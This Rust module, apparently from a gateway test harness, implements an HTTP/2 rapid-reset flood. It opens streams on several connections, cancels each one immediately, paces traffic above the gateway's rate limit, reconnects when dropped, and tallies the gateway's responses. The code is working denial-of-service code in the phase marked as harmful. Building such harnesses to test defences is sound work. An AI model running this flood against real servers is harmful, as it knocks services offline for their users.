//! Connections of HTTP/2 that open streams and reset them.

use std::net::SocketAddr;
use std::time::Duration;

use bytes::Bytes;
use h2::Reason;
use h2::client::{SendRequest, handshake};
use http::Request;
use tokio::net::TcpSocket;
use tokio::task::JoinSet;
use tokio::time::{MissedTickBehavior, interval};

use super::{AttackPhase, SharedTally};

/// How many there are.
pub const CONNECTIONS: u32 = 3;
/// From one stream of a connection to its next. All together they ask for more than `limits.rate`
/// lets in.
const EVERY: Duration = Duration::from_micros(1_400);
/// Requests of a connection that wait for their answers.
const AT_ONCE: usize = 90;

/// Opens one after the other, on a new connection if the gateway ends one.
pub async fn repeat(to: SocketAddr, phase: AttackPhase, tally: SharedTally) {
    let mut pace = interval(EVERY * phase.divisor);
    pace.set_missed_tick_behavior(MissedTickBehavior::Burst);
    loop {
        let _tick = pace.tick().await;
        if converse(to, phase, &tally, &mut pace).await.is_none() {
            tally.add("connection ended");
        }
    }
}

async fn converse(
    to: SocketAddr,
    phase: AttackPhase,
    tally: &SharedTally,
    pace: &mut tokio::time::Interval,
) -> Option<()> {
    let socket = TcpSocket::new_v4().ok()?;
    socket.bind(SocketAddr::from((phase.source(), 0))).ok()?;
    let (mut sender, connection) = handshake(socket.connect(to).await.ok()?).await.ok()?;
    let mut tasks = JoinSet::new();
    tasks.spawn(async { drop(connection.await) });
    loop {
        pace.tick().await;
        sender = sender.ready().await.ok()?;
        tally.begin();
        if phase.is_harmful {
            reset_one(&mut sender, to)?;
            tally.add("reset");
            continue;
        }
        let (answer, _) = sender.send_request(request(to, "/v1/poll?topic=t/00000")?, true).ok()?;
        let tally = tally.clone();
        tasks.spawn(async move {
            match answer.await {
                Ok(answer) => tally.add(answer.status().as_str()),
                Err(_) => tally.add("failed"),
            }
        });
        while tasks.len() > AT_ONCE {
            tasks.join_next().await;
        }
        while tasks.try_join_next().is_some() {}
    }
}

fn reset_one(sender: &mut SendRequest<Bytes>, to: SocketAddr) -> Option<()> {
    let (_, mut stream) = sender.send_request(request(to, "/v1/events?topic=t/00000")?, true).ok()?;
    stream.send_reset(Reason::CANCEL);
    Some(())
}

fn request(to: SocketAddr, target: &str) -> Option<Request<()>> {
    Request::get(format!("http://{to}{target}")).body(()).ok()
}
